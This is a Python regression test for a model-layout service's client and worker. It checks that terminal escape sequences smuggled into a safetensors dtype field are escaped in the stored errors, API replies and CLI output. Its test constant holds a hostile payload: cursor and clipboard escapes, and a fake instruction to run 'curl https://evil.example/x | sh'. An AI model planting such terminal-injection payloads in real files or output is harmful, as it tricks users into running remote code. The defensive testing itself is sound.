"""Text from a tenant's file is data (issue 41): a safetensors header whose tensor dtype carries a carriage
return, ESC[2K, ESC[1A, an OSC 52 clipboard write and line breaks reached the job's error verbatim, and
`dtp-layout client status` wrote it to the terminal raw (a fake "serve with vLLM" block ending in
`curl … | sh`); `client wait` and `client list` wrote its first line. The upload check now refuses such a
dtype (tests/app/api/test_hostile_uploads.py); a model the server holds itself reaches the worker, whose
error is stored escaped, the API answers it escaped, and the client escapes whatever a service sends."""

from __future__ import annotations

import json
import struct
import time

import pytest

from app.cli.client.output import err, job_state, out, status_text
from app.core.safe_text import for_log

EVIL_DTYPE = ("F32\r\x1b[2K\x1b[1A\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\nTo serve with vLLM:\n"
              "  dtp-layout client download JOB && curl https://evil.example/x | sh\n")


def with_dtype(path, dtype: str) -> None:
    """Rewrite the safetensors file at `path` with its first tensor's dtype set to `dtype` (data unchanged)."""
    raw = path.read_bytes()
    (length,) = struct.unpack("<Q", raw[:8])
    header = json.loads(raw[8:8 + length])
    first = next(name for name in header if name != "__metadata__")
    header[first]["dtype"] = dtype
    text = json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(text)) + text + raw[8 + length:])


def test_a_dtype_carrying_terminal_escapes_fails_the_job_with_its_text_escaped(tmp_path):
    pytest.importorskip("transformers")
    from fastapi.testclient import TestClient

    from app.api.main import create_app
    from app.core.caller import Caller
    from app.core.db import Job, database
    from app.core.migrate import upgrade
    from app.core.schemas.jobs import JobSpec
    from app.core.services.jobs import submit_job
    from tests.service_kit import make_settings, provision, spec
    from tests.tiny import tiny_model
    from worker.entry import run_job

    settings = make_settings(tmp_path, device="cpu")
    upgrade(settings.database_url)
    provision(settings)
    folder = settings.models_dir / "escapes"
    tiny_model("llama").save_pretrained(folder)
    with_dtype(folder / "model.safetensors", EVIL_DTYPE)
    db = database(settings.database_url)
    job_spec = JobSpec.model_validate(spec(model={"id": "escapes"}, random_layouts=0, ablations=False, export=False))
    with db.session() as session:
        job_id = submit_job(session=session, settings=settings, spec=job_spec, caller=Caller(tenant=None, admin=False),
                            enqueue=lambda _job_id: None).id
    t0 = time.perf_counter()
    assert run_job(job_id, settings=settings, db=db, worker="test:1") == "failed"
    with db.session() as session:
        stored = session.get(Job, job_id).error
    print(f"failed in {time.perf_counter() - t0:.1f} s: {stored[:300]}")
    assert stored.isprintable(), stored  # nothing a terminal would act on
    assert "\\x1b[2K" in stored and "\\r" in stored and "\\n" in stored, stored  # shown, not dropped
    with TestClient(create_app(settings)) as client:
        answered = client.get(f"/v1/jobs/{job_id}").json()
    assert answered["error"] == stored
    assert status_text(answered).count("\n") == status_text({**answered, "error": "x"}).count("\n")


RAW_JOB = {"id": "0" * 32, "status": "failed", "stage": "loading", "error_stage": "loading",
           "error": "SafetensorError: unknown variant `" + EVIL_DTYPE + "`", "spec": {"model": {"id": "m"}},
           "created_at": "2026-01-01T00:00:00Z", "expired_at": "2026-01-02T00:00:00Z"}


def test_the_client_escapes_what_a_service_answers(capsys):
    """A job row stored before the worker escaped (or any service's answer): `client status` prints the
    error on one line, escaped; `client wait` and `client list` (job_state) the same; out/err escape every
    control character but their own line breaks."""
    text = status_text(RAW_JOB)
    assert f"error: {for_log(RAW_JOB['error'])}" in text.splitlines(), text
    assert all(line.isprintable() for line in text.splitlines()), text
    assert "curl" not in text.splitlines()[-1]  # no line of the fake block stands alone
    state = job_state(RAW_JOB)
    assert state.isprintable() and state.startswith("failed in loading: SafetensorError"), state
    out("a\x1b]52;c;eA==\x07\r\nb")
    err("c\x1b[1A")
    captured = capsys.readouterr()
    assert captured.out == "a\\x1b]52;c;eA==\\x07\\r\nb\n" and captured.err == "c\\x1b[1A\n", captured
